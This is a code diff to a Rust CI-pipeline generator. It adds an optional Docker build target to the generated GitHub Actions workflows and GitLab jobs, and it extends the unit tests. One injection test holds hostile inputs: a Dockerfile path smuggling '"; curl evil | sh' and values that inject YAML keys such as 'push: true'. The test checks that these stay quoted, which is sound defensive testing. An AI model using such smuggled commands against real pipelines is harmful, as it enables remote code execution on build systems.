@@ -54,6 +54,8 @@ pub struct BuiltImage {
     pub context: String,
     /// The Dockerfile, relative to the repository.
     pub dockerfile: String,
+    /// The stage to build (compose's `build.target`), when one is named.
+    pub target: Option<String>,
 }
 
 /// A GitHub Actions workflow, as much of one as the pipeline uses.
@@ -151,6 +153,9 @@ pub fn github_workflow(
                 ("file".to_string(), text(in_repository(&image.dockerfile))),
                 ("push".to_string(), StepInput::Flag(push)),
             ]);
+            if let Some(target) = &image.target {
+                with.insert("target".into(), text(target.clone()));
+            }
             if push {
                 with.insert(
                     "tags".into(),
@@ -269,8 +274,13 @@ pub fn gitlab_include(images: &[BuiltImage]) -> BTreeMap<String, GitLabJob> {
     let mut jobs = BTreeMap::new();
     for image in images {
         let tag = format!("$CI_REGISTRY_IMAGE/{}:$CI_COMMIT_SHA", image.service);
+        let target = image
+            .target
+            .as_ref()
+            .map(|target| format!(" --target {}", shell_word(target)))
+            .unwrap_or_default();
         let build = format!(
-            "docker build --file {} --tag \"{tag}\" {}",
+            "docker build --file {}{target} --tag \"{tag}\" {}",
             shell_word(&in_repository(&image.dockerfile)),
             shell_word(&in_repository(&image.context))
         );
@@ -342,11 +352,13 @@ mod tests {
                 service: "web".into(),
                 context: ".".into(),
                 dockerfile: "Dockerfile".into(),
+                target: None,
             },
             BuiltImage {
                 service: "worker".into(),
                 context: "./worker/".into(),
                 dockerfile: "worker/Dockerfile".into(),
+                target: Some("production".into()),
             },
         ]
     }
@@ -398,6 +410,11 @@ mod tests {
             assert_eq!(build["context"], context);
             assert_eq!(build["file"], file);
             assert_eq!(build["tags"], format!("ghcr.io/acme/shop/{service}:${{{{ github.sha }}}}"));
+            // The stage compose builds is the one pushed; none named, the last stage.
+            match service {
+                "worker" => assert_eq!(build["target"], "production"),
+                _ => assert!(build.get("target").is_none()),
+            }
         }
     }
 
@@ -415,6 +432,7 @@ mod tests {
             let build = &steps.last().unwrap()["with"];
             assert_eq!(build["push"], false);
             assert!(build.get("tags").is_none());
+            assert_eq!(build.get("target").is_some(), service == "worker", "the same stage");
         }
         assert_eq!(doc["jobs"].as_object().unwrap().len(), 4);
     }
@@ -425,12 +443,17 @@ mod tests {
             service: "web\non: [workflow_run]".into(),
             context: "a: b\n- c".into(),
             dockerfile: "\"; curl evil | sh".into(),
+            target: Some("x\n  push: true".into()),
         }];
         let workflow = github_workflow(&images, "ghcr.io/acme/shop", "main", "deploy");
         let text = render(&workflow, "the image workflow").unwrap();
         let doc: Value = serde_saphyr::from_str(&text).unwrap();
         let triggers: Vec<&String> = doc["on"].as_object().unwrap().keys().collect();
         assert_eq!(triggers, ["push", "pull_request"]);
+        let job =
+            doc["jobs"].as_object().unwrap().iter().find(|(name, _)| name.starts_with("build-"));
+        let build = &job.unwrap().1["steps"].as_array().unwrap().last().unwrap()["with"];
+        assert_eq!(build["push"], false, "a target is a scalar, never a key: {text}");
         let include = render(&gitlab_include(&images), "the image jobs").unwrap();
         let doc: Value = serde_saphyr::from_str(&include).unwrap();
         let script = doc[format!("{GITLAB_JOB_PREFIX}web\non: [workflow_run]")]["script"][1]
@@ -438,6 +461,7 @@ mod tests {
             .unwrap()
             .to_string();
         assert!(script.contains("--file \"\\\"; curl evil | sh\""), "{script}");
+        assert!(script.contains("--target \"x\n  push: true\""), "{script}");
     }
 
     #[test]
@@ -455,7 +479,7 @@ mod tests {
         assert!(script[0].contains("$CI_REGISTRY_USER") && script[0].contains("--password-stdin"));
         assert_eq!(
             script[1],
-            "docker build --file \"worker/Dockerfile\" --tag \"$CI_REGISTRY_IMAGE/worker:$CI_COMMIT_SHA\" \"worker\""
+            "docker build --file \"worker/Dockerfile\" --target \"production\" --tag \"$CI_REGISTRY_IMAGE/worker:$CI_COMMIT_SHA\" \"worker\""
         );
         assert_eq!(script[2], "docker push \"$CI_REGISTRY_IMAGE/worker:$CI_COMMIT_SHA\"");
         let check = &doc["nomad-spec-image-worker-check"];
